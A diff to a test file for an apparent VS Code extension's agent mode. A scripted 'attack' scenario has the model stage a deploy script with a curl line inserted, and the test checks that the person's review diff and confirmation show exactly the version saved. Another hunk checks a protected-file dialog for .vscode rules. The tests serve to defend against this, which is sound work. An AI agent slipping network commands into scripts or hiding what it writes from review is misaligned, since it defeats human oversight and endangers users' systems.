@@ -169,7 +169,7 @@ describe('agent mode with the scripted model', () => {
   const ECHO = 'echo deploying';
   const DEPLOY_M2 = DEPLOY_STAGED.replace('set -e\n', `set -e\n${CURL}\n`);
 
-  test('attack: save_media m2 after m1 was patched into m2 and m3; the confirmation\'s "Open the staged diff" shows m2 (the curl line), which is what is written', { timeout: SCENARIO_TIMEOUT }, async (t) => {
+  test('attack: save_media m2 after m1 was patched into m2 and m3; the diff the save opens shows m2 (the curl line), which is what is written, and its confirmation names m2', { timeout: SCENARIO_TIMEOUT }, async (t) => {
     const script = {
       prompt: 'Add a deploy script.',
       steps: [
@@ -191,16 +191,15 @@ describe('agent mode with the scripted model', () => {
           beforeAnswer: async ({ page, wb, events, screenshot }) => {
             const m2 = saved(events);
             const pending = await d.pendingToolConfirmation(page);
-            // The person follows the confirmation's link, as they would to review what is saved.
-            await pending.locator.locator('a').filter({ hasText: 'Open the staged diff' }).first().click();
+            // The save opens the diff of the version it writes beside its confirmation: what the person reviews.
+            await d.waitFor(async () => (await d.editorTabLabels(page)).includes(`${DEPLOY} (disk ↔ staged ${m2})`), `the "${DEPLOY} (disk ↔ staged ${m2})" tab`, 30_000);
             await page.locator(REVIEW.diffEditor).first().waitFor({ state: 'visible', timeout: 30_000 });
             const sides = await d.waitFor(async () => {
               const s = await d.diffEditorText(page);
               return s.modified.includes(CURL) ? s : undefined;
-            }, `the diff the link opened to show ${m2}'s text (the curl line), which the save writes`, 30_000);
+            }, `the diff the save opened to show ${m2}'s text (the curl line), which the save writes`, 30_000);
             assert.ok(!sides.modified.includes(ECHO), `the diff shows m3's text: ${sides.modified}`);
-            await d.waitFor(async () => (await d.editorTabLabels(page)).includes(`${DEPLOY} (disk ↔ staged ${m2})`), `the "${DEPLOY} (disk ↔ staged ${m2})" tab`, 30_000);
-            assert.match(pending.message, new RegExp(`Version: ${m2}\\b`), 'the confirmation names the version it saves');
+            assert.match(pending.message, new RegExp(`\\(${m2}\\)`), 'the confirmation names the version it saves');
             await screenshot('step3-linked-diff');
             assert.equal(existsSync(join(wb.workspaceDir, DEPLOY)), false, 'deploy.sh was written before the person answered');
           },
@@ -280,6 +279,8 @@ describe('agent mode with the scripted model', () => {
       hooks: {
         3: {
           beforeAnswer: async (_ctx, dialog) => {
+            // Asked twice: the save's own confirmation in the chat, then (a protected file) our modal.
+            if (dialog === undefined) return;
             assert.match(dialog.detail, /is protected by the built-in rule "\*\*\/\.vscode\/\*\*": it configures VS Code and its extensions, including this extension's own rules/, 'the dialog says why the file is protected');
           },
         },
